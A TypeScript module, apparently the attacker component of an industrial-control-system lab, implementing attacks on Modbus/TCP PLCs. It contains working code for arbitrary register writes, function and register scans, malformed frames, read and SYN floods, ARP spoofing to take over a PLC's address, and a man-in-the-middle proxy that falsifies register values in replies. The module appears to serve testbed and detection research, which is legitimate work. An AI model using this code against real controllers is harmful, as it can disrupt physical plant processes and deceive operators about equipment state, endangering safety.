/**
 * What an intruder does, as the tools of the trade do it: raw bytes over TCP, forged ARP, a proxy in the middle.
 * Any host may be the one: its own, or a machine of the plant that was taken over. Only meant for the lab's own namespaces.
 */
import { once } from "node:events";
import { createServer, connect as dial, type Server, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Actions, Arguments, HostContext } from "./host.ts";
import { tool } from "./network.ts";
import { hostNamed } from "./plant.ts";

const MBAP_LENGTH = 7;
const ANSWER_TIME = 400;

/** A Modbus client that sends whatever it is told. */
class RawClient {
	readonly #socket: Socket;
	#transaction: number;
	#received = Buffer.alloc(0);
	#arrived: (() => void) | undefined;

	private constructor(socket: Socket, transaction: number) {
		this.#socket = socket;
		this.#transaction = transaction;
		socket.setNoDelay(true);
		socket.on("error", () => {});
		socket.on("data", (bytes) => {
			this.#received = Buffer.concat([this.#received, bytes]);
			this.#arrived?.();
		});
	}

	static async connect(context: HostContext, ip: string): Promise<RawClient> {
		const { isLoopback, modbusPort } = context;
		const socket = dial({ host: ip, port: modbusPort, ...(isLoopback ? { localAddress: context.ip } : {}) });
		await once(socket, "connect", { signal: AbortSignal.timeout(3000) });
		return new RawClient(socket, 1);
	}

	/** Sends one ADU with this PDU (hexadecimal or bytes); the answer's PDU, or undefined when none came. */
	async ask(unit: number, pdu: Buffer): Promise<Buffer | undefined> {
		const adu = this.message(unit, pdu);
		this.#socket.write(adu);
		const transaction = adu.readUInt16BE(0);
		const deadline = Date.now() + ANSWER_TIME;
		for (;;) {
			const answer = this.#take();
			if (answer !== undefined) {
				if (answer.readUInt16BE(0) === transaction) return answer.subarray(MBAP_LENGTH);
				continue;
			}
			const left = deadline - Date.now();
			if (left <= 0) return undefined;
			await Promise.race([new Promise<void>((done) => (this.#arrived = done)), sleep(left)]);
		}
	}

	message(unit: number, pdu: Buffer): Buffer {
		const adu = Buffer.alloc(MBAP_LENGTH + pdu.length);
		adu.writeUInt16BE(this.#transaction++ & 0xffff, 0);
		adu.writeUInt16BE(pdu.length + 1, 4);
		adu[6] = unit;
		pdu.copy(adu, MBAP_LENGTH);
		return adu;
	}

	send(bytes: Buffer): void {
		this.#socket.write(bytes);
	}

	get isOpen(): boolean {
		return this.#socket.readyState === "open";
	}

	async close(): Promise<void> {
		if (this.#socket.closed) return;
		// Not events.once: a server that resets the connection is no failure here.
		const closed = new Promise((done) => this.#socket.once("close", done));
		this.#socket.end();
		await Promise.race([closed, sleep(300)]);
		this.#socket.destroy();
	}

	#take(): Buffer | undefined {
		if (this.#received.length < MBAP_LENGTH) return undefined;
		const end = 6 + this.#received.readUInt16BE(4);
		if (this.#received.length < end) return undefined;
		const message = this.#received.subarray(0, end);
		this.#received = this.#received.subarray(end);
		return message;
	}
}

function pdu(code: number, ...words: number[]): Buffer {
	const bytes = Buffer.alloc(1 + words.length * 2);
	bytes[0] = code;
	for (const [index, word] of words.entries()) bytes.writeUInt16BE(word & 0xffff, 1 + index * 2);
	return bytes;
}

export function attackActions(context: HostContext): Actions {
	const server = (args: Arguments) => context.address(String(args.plc));
	const session = async <T>(args: Arguments, work: (client: RawClient) => Promise<T>): Promise<T> => {
		const client = await RawClient.connect(context, server(args));
		try {
			return await work(client);
		} finally {
			await client.close();
		}
	};
	let takeover: { ip: string; proxy: Server | undefined; timer: NodeJS.Timeout } | undefined;

	/** Answers ARP for another's address and says so aloud: from now on its peers send here. */
	const takeAddress = (ip: string, proxy: Server | undefined) => {
		if (context.isLoopback) throw new Error("an address can only be taken over in network namespaces");
		tool("sysctl", "-qw", "net.ipv4.conf.eth0.arp_notify=1");
		tool("ip", "addr", "add", `${ip}/32`, "dev", "eth0");
		// Setting the same MAC again makes the kernel announce all its addresses (gratuitous ARP).
		const announce = () => tool("ip", "link", "set", "dev", "eth0", "address", context.host.mac);
		announce();
		const timer = setInterval(announce, 1000);
		takeover = { ip, proxy, timer };
	};

	return {
		/** Connects and writes registers one by one. */
		writeRegisters: (args) =>
			session(args, async (client) => {
				for (const [address, value] of args.writes as [number, number][]) {
					await client.ask(1, pdu(6, address, value));
					await sleep(250);
				}
			}),
		/** Writes single points (function, address, value) as fast as answers come, each after a pause, over and over. */
		writeFast: (args) =>
			session(args, async (client) => {
				const writes = args.writes as [number, number, number][];
				for (let count = 0; count < Number(args.count); count++) {
					const [code, address, value] = writes[count % writes.length]!;
					await client.ask(1, pdu(code, address, value));
					await sleep(Number(args.pause));
				}
			}),
		/** Sends requests as they are written (hexadecimal), to one unit or each to the next; what was answered. */
		sendRaw: (args) =>
			session(args, async (client) => {
				const answers: string[] = [];
				const unit = Number(args.unit ?? 1);
				for (const [index, request] of (args.requests as string[]).entries()) {
					const answer = await client.ask(args.isSweep === true ? unit + index : unit, Buffer.from(request.replaceAll(" ", ""), "hex"));
					answers.push(answer?.toString("hex") ?? "no answer");
					await sleep(Number(args.pause ?? 100));
				}
				return answers;
			}),
		/** Two requests at once under one transaction number. */
		reuseTransaction: (args) =>
			session(args, async (client) => {
				const [one, other] = [0, 1].map((address) => client.message(1, pdu(3, address, 1))) as [Buffer, Buffer];
				one.copy(other, 0, 0, 2);
				client.send(Buffer.concat([one, other]));
				await sleep(200);
			}),
		/** Every public and private function code, without much of a body: what answers "illegal function" does not exist. */
		functionScan: (args) =>
			session(args, async (client) => {
				const found: number[] = [];
				for (let code = 1; code <= Number(args.last); code++) {
					// Diagnostics would change the PLC: a scan asks for the harmless echo.
					const answer = await client.ask(1, code === 8 ? pdu(8, 0, 0x5a5a) : pdu(code, 0, 1));
					if (answer !== undefined && answer[0] === code) found.push(code);
					await sleep(25);
				}
				return found;
			}),
		/** Reads the whole register space block by block. */
		registerScan: (args) =>
			session(args, async (client) => {
				for (let address = 0; address < Number(args.until); address += Number(args.step)) {
					await client.ask(1, pdu(3, address, Number(args.step)));
					await sleep(20);
				}
			}),
		/** Diagnostics (function 8) with one sub-function. */
		diagnose: (args) =>
			session(args, async (client) => {
				const answer = await client.ask(1, pdu(8, Number(args.subFunction), 0));
				return answer === undefined ? "no answer" : answer.toString("hex");
			}),
		/** Messages that no specification allows. */
		malformed: async (args) => {
			const messages = [
				// Quantity 0, quantity above 125, byte count that contradicts the quantity, a body cut short.
				Buffer.from("000100000006010300000000", "hex"),
				Buffer.from("0002000000060103000007d0", "hex"),
				Buffer.from("00030000000b0110000000020404b004b0", "hex"),
				Buffer.from("00040000000b0110000000030404b004b0", "hex"),
				Buffer.from("0005000000040106000f", "hex"),
				Buffer.from("00060000000601050000abcd", "hex"),
				// Protocol identifier 1, length 0, length far above 254.
				Buffer.from("000700010006010300000001", "hex"),
				Buffer.from("000800000000", "hex"),
				Buffer.from("00090000ffff010300000001", "hex"),
			];
			for (const message of messages) {
				const client = await RawClient.connect(context, server(args));
				client.send(message);
				await sleep(200);
				await client.close();
			}
		},
		/** Reads as fast as answers come, for some seconds. */
		flood: (args) =>
			session(args, async (client) => {
				const end = Date.now() + Number(args.seconds) * 1000;
				let count = 0;
				while (Date.now() < end && client.isOpen) {
					const burst = Array.from({ length: Number(args.burst) }, () => client.message(1, pdu(3, 0, 1)));
					for (const adu of burst) client.send(adu);
					count += burst.length;
					await sleep(Number(args.pause));
				}
				return count;
			}),
		/** Half-open connections: the answers are thrown away before the kernel could finish the handshake. */
		synFlood: async (args) => {
			if (context.isLoopback) throw new Error("a SYN flood is only made in network namespaces");
			tool("sysctl", "-qw", "net.ipv4.tcp_syn_retries=1");
			const table =
				"add table ip lab; add chain ip lab input { type filter hook input priority 0; }; add rule ip lab input tcp flags & (syn | ack) == (syn | ack) drop";
			tool("nft", table);
			const sockets: Socket[] = [];
			try {
				for (let count = 0; count < Number(args.count); count++) {
					const socket = dial({ host: server(args), port: context.modbusPort });
					socket.on("error", () => {});
					sockets.push(socket);
					if (count % 10 === 9) await sleep(Number(args.pause));
				}
			} finally {
				for (const socket of sockets) socket.destroy();
				tool("nft", "delete table ip lab");
			}
		},
		/** Looks for Modbus servers at every address of the network. */
		hostScan: async (args) => {
			const base = context.ip.slice(0, context.ip.lastIndexOf(".") + 1);
			const tries: Promise<void>[] = [];
			for (let last = Number(args.first); last <= Number(args.last); last++) {
				tries.push(knock(`${base}${last}`, context.modbusPort));
				await sleep(40);
			}
			await Promise.all(tries);
		},
		/** Takes a PLC's address by forged ARP and lets its peers run into nothing. */
		spoof: (args) => takeAddress(context.address(String(args.victim)), undefined),
		/** Takes a PLC's address, passes everything on to the real one, and lies about one register in the answers. */
		manInTheMiddle: async (args) => {
			const victim = hostNamed(String(args.victim));
			// Own sockets must still reach the real PLC, so its address is local only for what comes in from the network.
			takeAddress(victim.ip, undefined);
			tool(
				"sysctl",
				"-qw",
				"net.ipv4.conf.all.accept_local=1",
				"net.ipv4.conf.eth0.accept_local=1",
				"net.ipv4.conf.all.rp_filter=0",
				"net.ipv4.conf.eth0.rp_filter=0",
			);
			tool("ip", "route", "add", "local", victim.ip, "dev", "eth0", "table", "111");
			tool("ip", "rule", "add", "pref", "5", "iif", "eth0", "lookup", "111");
			tool("ip", "rule", "add", "pref", "6", "from", victim.ip, "lookup", "main");
			tool("ip", "route", "del", "local", victim.ip, "dev", "eth0", "table", "local");
			const proxy = createServer((client) => void relay(context, victim.ip, client, Number(args.register), Number(args.value)));
			proxy.on("error", () => {});
			proxy.listen(context.modbusPort, "0.0.0.0");
			await once(proxy, "listening");
			if (takeover !== undefined) takeover.proxy = proxy;
		},
		/** Gives the address back. */
		release: () => {
			if (takeover === undefined) return;
			const { ip, proxy, timer } = takeover;
			clearInterval(timer);
			proxy?.close();
			for (const undo of [
				["addr", "del", `${ip}/32`, "dev", "eth0"],
				["rule", "del", "pref", "5"],
				["rule", "del", "pref", "6"],
				["route", "flush", "table", "111"],
			]) {
				try {
					tool("ip", ...undo);
				} catch {
					// A plain spoof has set no rules.
				}
			}
			takeover = undefined;
		},
		/** Tells everybody where this host's address is (gratuitous ARP), as a PLC does when its cable comes back. */
		announce: () => {
			tool("sysctl", "-qw", "net.ipv4.conf.eth0.arp_notify=1");
			tool("ip", "link", "set", "dev", "eth0", "address", context.host.mac);
			tool("sysctl", "-qw", "net.ipv4.conf.eth0.arp_notify=0");
		},
	};
}

/** Passes one Modbus connection on, message by message; answers to "read input registers" from 0 carry `value` in `register`. */
async function relay(context: HostContext, ip: string, client: Socket, register: number, value: number): Promise<void> {
	client.setNoDelay(true);
	const server = dial({ host: ip, port: context.modbusPort, localAddress: context.ip });
	server.setNoDelay(true);
	server.on("error", () => client.destroy());
	client.on("error", () => server.destroy());
	client.on("close", () => server.destroy());
	server.on("close", () => client.destroy());
	client.on("data", (bytes) => server.write(bytes));
	server.on("data", (bytes: Buffer) => {
		const isInputAnswer = bytes.length >= MBAP_LENGTH + 2 && bytes[MBAP_LENGTH] === 4;
		const at = MBAP_LENGTH + 2 + register * 2;
		if (isInputAnswer && bytes[MBAP_LENGTH + 1]! >= register * 2 + 2) bytes.writeUInt16BE(value, at);
		client.write(bytes);
	});
}

async function knock(ip: string, port: number): Promise<void> {
	const socket = dial({ host: ip, port });
	socket.on("error", () => {});
	await Promise.race([once(socket, "connect").catch(() => undefined), sleep(600)]);
	socket.destroy();
}
